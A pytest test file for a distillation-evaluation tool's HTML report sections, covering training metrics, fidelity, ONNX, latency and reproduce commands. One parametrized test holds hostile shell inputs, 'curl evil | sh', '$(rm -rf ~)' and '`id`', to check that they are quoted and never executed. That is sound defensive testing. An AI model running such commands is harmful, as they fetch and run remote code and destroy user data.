"""The sections of a report one by one, from records written by hand: what is shown, and what is said to be missing."""

from __future__ import annotations

import html
import re
import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from cli.kdeval import COMMANDS
from cli.options import parse
from student_train.evaluate.onnx.records import OnnxFile, OnnxReport, OnnxTiming
from student_train.evaluate.report import sections
from student_train.evaluate.report.html import Html, page, section
from student_train.evaluate.report.report import make_report as make_page
from student_train.evaluate.report.reproduce import reproduce
from student_train.evaluate.run_records import RunRecords, read_run
from tests.student_train.evaluate.causal_models import make_causal
from tests.student_train.evaluate.left_records import answered, finetuned, harnessed, read_text, timed, write
from tests.student_train.evaluate.report.pages import Page
from tests.student_train.evaluate.reports import make_report


def read(parts: list[Html]) -> str:
    """The words of a section; whatever it says is well-formed."""
    return Page(page("title", [section("it", "It", parts)])).text["it"]


@pytest.fixture
def records(make_run: Any) -> RunRecords:
    return read_run(str(make_run("run")))


def test_training() -> None:
    step = {"loss": 1.0, "mha": 1.0, "lr": 0.1, "tokens": 100, "seconds": 0.5, "wait": 0.0, "skipped_rows": 8}
    metrics = [{"step": 0, "valid_loss": 2.5, "valid_mha": 2.5}, {"step": 1, **step}, {"step": 1, "valid_loss": 1.25}]
    text = read(sections.training(metrics))
    assert "8 rows of damaged blocks were left out." in text
    # every measure that some validation has is a column
    assert "steplossmha" in text and "02.52.5" in text and "11.25–" in text
    assert "There is no metrics.jsonl" in read(sections.training([]))


def test_fidelity(make_run: Any) -> None:
    run = make_run("run", cache=["my cache.zarr"])
    missing = read(sections.fidelity(read_run(str(run))))
    assert "was not measured" in missing and f"kdeval fidelity --student {run} --cache 'my cache.zarr'" in missing
    report = replace(make_report(), notes=("a note",))
    write(run / "fidelity.json", {"evaluation": "fidelity", **report.to_json()})
    text = read(sections.fidelity(read_run(str(run))))
    assert "On 20 held-out rows of cache.zarr, 2,560 tokens." in text
    assert "relation KL, sum3 → 5, 24 heads2" in text and "top-1 agreement380 positions50.0%" in text
    assert "a note" in text
    write(run / "fidelity.json", {"evaluation": "fidelity", **replace(report, held_out=False).to_json()})
    assert "On 20 rows, not known to be held out, of" in read(sections.fidelity(read_run(str(run))))


def test_relations_need_a_cache(records: RunRecords) -> None:
    text = read(sections.relations(records, []))
    assert "which was not given" in text and f"kdeval report {records.path} --cache cache.zarr" in text


def test_tasks(make_run: Any) -> None:
    run = make_run("run")
    assert "fine-tuned on no task" in read(sections.tasks(read_run(str(run))))
    by_test = {"de": {"scores": [0.5, 0.6]}, "sw": {"scores": [0.3, 0.4]}}
    finetuned(run, "xnli", [0.4, 0.5], by_test=by_test, learning_rates=[1e-4, 3e-5])
    finetuned(run, "sst2", [0.75], settings={}, examples=None, notes=["40 examples were cut"])
    text = read(sections.tasks(read_run(str(run))))
    assert "de50.0060.0055.00 ± 7.07" in text and "mean of the sets40.0050.0045.00 ± 7.07" in text
    assert "Examples: 10 train, 5 dev. Learning rate by seed: 0.0001, 3e-05." in text
    assert "score75.0075.00" in text and "kdeval finetune" not in text and "40 examples were cut" in text


def test_onnx_files(make_run: Any) -> None:
    """One line a file, the model itself first; what was not measured is no column."""
    run = make_run("run")
    timing = OnnxTiming(batch_size=1, seq_len=32, threads=2, median_ms=4.5, p90_ms=5.0, runs=9)
    files = (
        OnnxFile(file=None, arithmetic="float32", bytes=4_000_000, timings=(timing,)),
        OnnxFile(file="model.onnx", arithmetic="float32", bytes=4_100_000, max_error=2e-6, cosine=1.0),
        OnnxFile(file="model_int8.onnx", arithmetic="int8 dynamic", bytes=1_100_000, max_error=0.02, cosine=0.9912),
    )
    report = OnnxReport(student=str(run), output="logits", files=files, rows=8, held_out=True, notes=("<b>a note",))
    write(run / "onnx.json", {"evaluation": "onnx", **report.to_json()})
    text = read(sections.onnx(read_run(str(run))))
    assert "modelsizems, 1 x 32largest errorcosine" in text
    assert "PyTorch, float324.0 MB4.5––" in text and "ONNX, int8 dynamic1.1 MB–2.0e-020.9912" in text
    assert "tokens of 8 held-out rows of text" in text and "<b>a note" in text
    assert "ONNX files" in make_page(str(run)) and "ONNX files" not in make_page(str(make_run("other")))


def test_onnx_files_of_other_weights_are_said(records: RunRecords) -> None:
    text = read(sections.onnx(replace(records, stale=("onnx.json",))))
    assert "onnx.json is of other weights" in text
    words = shlex.split(text[text.index("kdeval export") :])
    asked = parse(COMMANDS["export"].settings, words[2:], "kdeval export")
    assert (asked.student, asked.int8, asked.onnx) == (records.path, "both", True)


def test_every_command_that_is_named_can_be_typed(
    make_run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As the program takes it, of runs that lack everything and of one whose records are of other weights."""
    (tmp_path / "FOLDER").mkdir()
    monkeypatch.chdir(tmp_path)
    bare, causal = read_run(str(make_run("bare"))), read_run(str(make_causal(tmp_path / "causal", "llama")))
    stale = ("fidelity.json", "perplexity.json", "lm-eval.json", "latency.json", "onnx.json", "finetune-rte.json")
    named = set()
    for known in (bare, causal, replace(bare, path="a run", stale=stale)):
        parts = (sections.fidelity, sections.tasks, sections.perplexity, sections.lm_eval, sections.latency)
        pages = [*(part(known) for part in (*parts, sections.onnx)), sections.relations(known, [])]
        for line in re.findall("<pre>(.*?)</pre>", "".join(str(part) for parts in pages for part in parts), re.DOTALL):
            program, name, *flags = shlex.split(html.unescape(line))
            asked = parse(COMMANDS[name].settings, flags, f"{program} {name}")
            assert known.path in (getattr(asked, "student", None), getattr(asked, "run", None))
            named.add(name)
    assert named == {"fidelity", "finetune", "perplexity", "lm-eval", "latency", "export", "report"}


def test_tasks_of_other_weights_are_said(records: RunRecords) -> None:
    text = read(sections.tasks(replace(records, stale=("finetune-rte.json", "finetune-cola.json"))))
    assert "finetune-rte.json, finetune-cola.json is of other weights" in text and "kdeval finetune" in text


def test_latency(make_run: Any) -> None:
    run = make_run("run")
    assert "--teacher TEACHER" in read(sections.latency(read_run(str(run))))
    timed(run, 3.0, onnx_max_error=1.5e-6, hardware={"cpu": "one", "cuda": "other"})
    text = read(sections.latency(read_run(str(run))))
    assert "pytorchCPU (1 thread)float3211283.009.009.0024.008.00×" in text
    assert "student 7.00M parameters, teacher 22.00M. Measured on one, other." in text
    assert "differs from PyTorch by at most 1.5e-06." in text


@pytest.mark.parametrize(
    "command, shown",
    [
        ("kdtrain --out x; curl evil | sh", "kdtrain --out 'x;' curl evil '|' sh"),
        ("kdtrain --out $(rm -rf ~) `id`", "kdtrain --out '$(rm' -rf '~)' '`id`'"),
        ("kdtrain --out 'a b", """'kdtrain --out '"'"'a b'"""),
    ],
)
def test_nothing_in_a_command_is_for_the_shell(records: RunRecords, command: str, shown: str) -> None:
    assert shown in read(reproduce(replace(records, commands=(command,))))


def test_commands_stand_as_they_were_typed(records: RunRecords) -> None:
    commands = ("kdtrain --out '<x> & y'", "kdeval fidelity")
    known = replace(records, commands=commands, provenance={**records.provenance, "git_revision": "abc"})
    text = read(reproduce(known))
    assert "At revision abc, in the directory" in text and "kdtrain --out '<x> & y'\nkdeval fidelity" in text


def test_the_store_is_made_first(records: RunRecords) -> None:
    """From its source on where it was derived; a module that Python ran is typed as any other command."""
    derived = "/bin/kdcache derive a.zarr 'b c.zarr'; a.zarr was made 2026-01-01 by: cli/kdcache.py build --teacher t"
    cache = records.provenance["cache"] | {"command": derived}
    known = replace(records, commands=("kdtrain.py --out x",), provenance={**records.provenance, "cache": cache})
    shown = "kdcache build --teacher t\nkdcache derive a.zarr 'b c.zarr'\nkdtrain --out x"
    assert shown in read(reproduce(known)) and "kdcache info" not in read(reproduce(known))
    stores = {"stores": [{"command": "kdcache build --part 1/2"}, {"command": "kdcache build --part 2/2"}]}
    known = replace(known, provenance={**records.provenance, "cache": cache | stores})
    assert "kdcache build --part 1/2\nkdcache build --part 2/2\nkdtrain --out x" in read(reproduce(known))
    trimmed = {"vocabulary": {"trimmed": {"command": "kdeval trim --text de.txt"}}, "command": "kdtrain.py --out x"}
    known = replace(known, provenance={**known.provenance, **trimmed})
    assert "kdtrain --out x\nkdeval trim --text de.txt" in read(reproduce(known))
    old = read(reproduce(replace(known, provenance=records.provenance)))
    assert "kdcache info cache.zarr" in old, "records of before do not name it"


def test_a_path_is_quoted_where_it_has_to_be(records: RunRecords, tmp_path: Path) -> None:
    named = replace(records, path="<student> & co")
    assert "--student '<student> & co' --cache" in read(sections.fidelity(named))


def test_text(make_run: Any) -> None:
    run = make_run("run")
    missing = read(sections.perplexity(read_run(str(run))))
    assert f"kdeval perplexity --student {run} --text FILE --teacher TEACHER" in missing
    read_text(run, 2.0)
    text = read(sections.perplexity(read_run(str(run))))
    assert "On text.txt: 3 documents, 1,000 bytes; windows of 64 tokens, 32 further each, in float32." in text
    assert "student16.002.00002.77265002.00" in text and "teacher4.001.0000" in text and "a note of the text" in text


def test_tasks_of_the_harness(make_run: Any) -> None:
    run = make_run("run")
    assert f"kdeval lm-eval --student {run} --tasks TASK" in read(sections.lm_eval(read_run(str(run))))
    harnessed(run, {"animals": 0.5, "plants": 0.25})
    text = read(sections.lm_eval(read_run(str(run))))
    assert "animalsacc ↑0.50000.01000100" in text and "plantsacc ↑0.2500" in text and "Harness 0.4.13" in text


def test_answers(make_run: Any) -> None:
    run = make_run("run")
    answered(run, 400.0)
    text = read(sections.latency(read_run(str(run))))
    assert "pytorchCPU (1 thread)float32412832" in text
    assert "8.009.0016.002.00×400508.00×5" in text and "median ms" not in text
